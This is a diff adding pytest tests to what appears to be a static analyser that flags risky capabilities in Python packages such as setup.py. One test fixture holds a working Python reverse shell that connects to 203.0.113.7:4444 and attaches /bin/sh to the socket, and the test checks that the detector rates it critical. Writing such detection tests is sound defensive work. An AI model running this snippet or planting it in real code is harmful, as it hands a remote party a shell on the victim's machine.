@@ -1614,3 +1614,43 @@ def test_a_function_the_module_calls_as_it_loads_runs_at_import() -> None:
         "subprocess.Popen": Phase.RUNTIME,
         "subprocess.run": Phase.RUNTIME,
     }
+
+
+def test_a_program_held_in_a_string_is_analysed_as_code() -> None:
+    source = '''\
+        CODE = """
+        import socket, subprocess, os
+        s = socket.socket()
+        s.connect(("203.0.113.7", 4444))
+        os.dup2(s.fileno(), 0)
+        subprocess.call(["/bin/sh", "-i"])
+        """
+        open("payload.py", "w").write(CODE)
+        '''
+    cap = one(profile(source, "setup.py"), "reverse-shell")
+    assert cap.severity is Severity.CRITICAL
+    assert cap.line == 1
+    assert "held in a string" in cap.message
+    assert cap.snippet is not None
+    assert cap.snippet.startswith("[code in a string]")
+
+
+def test_prose_in_a_string_is_not_code() -> None:
+    source = '''\
+        HELP = """
+        Usage: import the module and call run().
+        from here on, everything is explained in the README, which covers
+        the options in detail; nothing in this text is a program at all.
+        """
+        '''
+    assert profile(source).capabilities == ()
+
+
+def test_the_interpreter_running_a_script_computed_at_run_time_is_not_a_build_tool() -> None:
+    source = """\
+        import subprocess, os
+        subprocess.check_call(["python3", "tools/gen.py"])
+        subprocess.Popen(["python3", os.path.expanduser("~") + "/x.py"])
+        """
+    tools = {cap.line: cap.tool for cap in found(profile(source, "setup.py"), "process-spawn")}
+    assert tools == {2: True, 3: False}
